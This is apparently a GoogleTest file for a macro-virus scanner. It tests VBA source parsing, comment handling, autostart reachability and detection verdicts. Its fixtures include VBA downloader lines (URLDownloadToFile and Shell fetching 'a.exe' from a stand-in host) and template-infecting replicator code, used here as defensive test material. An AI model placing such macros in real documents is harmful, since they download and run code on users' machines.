// Macro source as VBA reads it: every line ending, comments, continuations, module names outside
// ASCII, and which code runs by itself. Each case is a verdict a user would see.
#include <gtest/gtest.h>

#include "Analyzer.h"
#include "Documents.h"
#include "SampleSources.h"
#include "Signatures.h"
#include "VbaProcedures.h"
#include "VbaText.h"

using namespace tessaly;
using namespace tessaly::fixtures;

namespace {

std::string WithLineEnds(std::string text, std::string_view eol) {
    std::string out;
    for (char c : text) {
        if (c == '\n') out += eol;
        else if (c != '\r') out.push_back(c);
    }
    return out;
}

int ScanModule(const std::string& source) {
    analysis::Analyzer analyzer;
    return analyzer.Scan(MakeDoc({.modules = {{"M", source}}})).code;
}

TEST(SourceText, EveryLineEndingCountsAsALine) {
    const std::string code = "Attribute VB_Name = \"M\"\nSub Tidy()\n    Selection.Font.Bold = True\nEnd Sub\n";
    const std::string empty = "Attribute VB_Name = \"M\"\nAttribute VB_Exposed = True\n";
    for (std::string_view eol : {"\r", "\n", "\r\n"}) {
        EXPECT_EQ(ScanModule(WithLineEnds(code, eol)), analysis::kScanSuspected) << static_cast<int>(eol[0]);
        EXPECT_EQ(ScanModule(WithLineEnds(empty, eol)), analysis::kScanClean) << static_cast<int>(eol[0]);
    }
    // A virus saved on a Mac is still named.
    EXPECT_EQ(ScanModule(WithLineEnds(sources::kReplicator, "\r")), analysis::kScanInfected);
}

TEST(SourceText, CommentsAreRemovedTheWayVbaReadsThem) {
    EXPECT_EQ(analysis::StripVbaComments("x = 1 ' note\r\n"), "x = 1 \n");
    EXPECT_EQ(analysis::StripVbaComments("Rem all of it\r\n  REM too\r\nRemove x\r\n"), "\n  \nRemove x\n");
    EXPECT_EQ(analysis::StripVbaComments("a = 1: Rem rest\r\n"), "a = 1: \n");
    // A quote or Rem inside a string literal is text; a doubled quote stays inside the string.
    EXPECT_EQ(analysis::StripVbaComments("s = \"it's \"\"Rem\"\" here\" ' gone\r\n"), "s = \"it's \"\"Rem\"\" here\" \n");
    // A comment ending in " _" runs on into the next line, as in the VBA editor.
    EXPECT_EQ(analysis::StripVbaComments("' hidden _\r\nShell \"calc\"\r\nx = 2\r\n"), "\nx = 2\n");
    // Code continued over lines is joined into one logical line.
    EXPECT_EQ(analysis::StripVbaComments("Shell \"a\" & _\r\n   \"b\"\r\n"), "Shell \"a\" &    \"b\"\n");
}

TEST(SourceText, CommentedOutCodeNamesNothing) {
    const std::string source =
        "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\n"
        "    ' Set h = CreateObject(\"MSXML2.XMLHTTP\"): URLDownloadToFile 0, u, f, 0, 0: Shell f\r\n"
        "    Rem NormalTemplate.VBProject.VBComponents(1).CodeModule.InsertLines 1, x\r\n"
        "    MsgBox \"Welcome\"\r\nEnd Sub\r\n";
    EXPECT_EQ(ScanModule(source), analysis::kScanSuspected);
}

TEST(SourceText, ProjectsThatMaintainThemselvesAreNoReplicators) {
    // Add-ins and test workbooks import their own modules or rewrite a line of their own on open.
    const std::string selfImport =
        "Attribute VB_Name = \"M\"\r\nPrivate Sub Workbook_Open()\r\n"
        "    Dim loVBProject As Object\r\n"
        "    ThisWorkbook.VBProject.VBComponents.Import ThisWorkbook.Path & \"\\src\\M.bas\"\r\nEnd Sub\r\n"
        "Function Count()\r\n    Count = ActiveWorkbook.VBProject.VBComponents.Count\r\nEnd Function\r\n";
    EXPECT_EQ(ScanModule(selfImport), analysis::kScanSuspected);
    const std::string intoTemplate =
        "Attribute VB_Name = \"M\"\r\nSub AutoClose()\r\n"
        "    Set c = NormalTemplate.VBProject.VBComponents.Item(1).CodeModule\r\n"
        "    c.InsertLines 1, ThisDocument.VBProject.VBComponents.Item(1).CodeModule.Lines(1, 9)\r\nEnd Sub\r\n";
    analysis::Analyzer heuristicsOnly("[Unused]\nall = nothing-like-this\n");
    EXPECT_EQ(heuristicsOnly.Scan(MakeDoc({.modules = {{"M", intoTemplate}}})).text, "Heur.Macro.Replicator");
}

TEST(SourceText, OnlyCodeThatRunsByItselfCounts) {
    const std::string library =
        "Attribute VB_Name = \"Net\"\r\n"
        "Function Fetch(u, f)\r\n    URLDownloadToFile 0, u, f, 0, 0\r\n    Shell f\r\nEnd Function\r\n";
    const std::string harmlessOpen =
        "Attribute VB_Name = \"Start\"\r\nSub Workbook_Open()\r\n    Sheets(1).Range(\"A1\").Value = Now\r\nEnd Sub\r\n";
    const std::string callingOpen =
        "Attribute VB_Name = \"Start\"\r\nSub Workbook_Open()\r\n    Net.Fetch \"http://example.invalid/a\", \"a.exe\"\r\nEnd Sub\r\n";
    const std::string memberOpen =
        "Attribute VB_Name = \"Start\"\r\nSub Workbook_Open()\r\n    Sheets(1).Fetch\r\nEnd Sub\r\n";
    analysis::Analyzer analyzer;
    auto scan = [&](const std::string& open) {
        return analyzer.Scan(MakeXls({.modules = {{"Net", library}, {"Start", open}}}));
    };
    EXPECT_EQ(scan(harmlessOpen).code, analysis::kScanSuspected);
    EXPECT_EQ(scan(memberOpen).code, analysis::kScanSuspected);
    const auto named = scan(callingOpen);
    EXPECT_EQ(named.code, analysis::kScanInfected);
    EXPECT_EQ(named.text, "W97M.Downloader.UrlMon");
}

TEST(SourceText, ProceduresAndWhatAutoStartReaches) {
    const std::string a = analysis::NormaliseSource(
        "Private Declare PtrSafe Function Beep Lib \"kernel32\" () As Long\r\n"
        "Sub AutoOpen()\r\n  Helper\r\n  Exit Sub\r\nEnd Sub\r\n"
        "Private Function Helper()\r\n  Application.Run \"Deep\"\r\nEnd Function\r\n"
        "Property Get Deep()\r\nEnd Property\r\nSub Unused()\r\nEnd Sub\r\n");
    const auto procedures = analysis::SplitProcedures(a);
    ASSERT_EQ(procedures.size(), 4u);
    EXPECT_EQ(procedures[0].name, "autoopen");
    EXPECT_EQ(procedures[2].name, "deep");
    const auto reached = analysis::ReachedFromAutoStart({{"m", a}});
    ASSERT_EQ(reached.size(), 3u);
    EXPECT_EQ(reached[2].name, "deep");
}

TEST(SourceText, Excel4CommandsAreNotTakenForFunctionsOfTheSameNumber) {
    analysis::Analyzer heuristicsOnly("[Unused]\nall = nothing-like-this\n");
    auto scan = [&](std::uint16_t call) {
        return heuristicsOnly.Scan(MakeXls({.macroSheet = true, .autoOpenName = true, .macroCall = call}));
    };
    EXPECT_EQ(scan(110).text, "Heur.XLM.Runner");      // EXEC
    EXPECT_EQ(scan(150).text, "Heur.XLM.Register");    // CALL
    // DELETE.NAME and FORMAT.FONT share those numbers as commands: macros, but no runner.
    for (std::uint16_t command : {0x8000 | 110, 0x8000 | 150}) {
        const auto v = scan(command);
        EXPECT_EQ(v.code, analysis::kScanSuspected) << command << ": " << v.text;
    }
}

TEST(SourceText, ModuleNamesOutsideAsciiAreRead) {
    // Russian Excel names its sheet modules "Лист1"; MODULENAME holds them in code page 1251.
    VbaModule sheet{"Лист1", "Attribute VB_Name = \"Лист1\"\r\n", true};
    sheet.codePageName = "\xCB\xE8\xF1\xF2" "1";
    analysis::Analyzer analyzer;
    EXPECT_EQ(analyzer.Scan(MakeXls({.modules = {sheet}})).code, analysis::kScanClean);
    VbaModule virus{"Книга", sources::kReplicator};
    virus.codePageName = "\xCA\xED\xE8\xE3\xE0";
    EXPECT_EQ(analyzer.Scan(MakeXls({.modules = {sheet, virus}})).code, analysis::kScanInfected);
}

}  // namespace
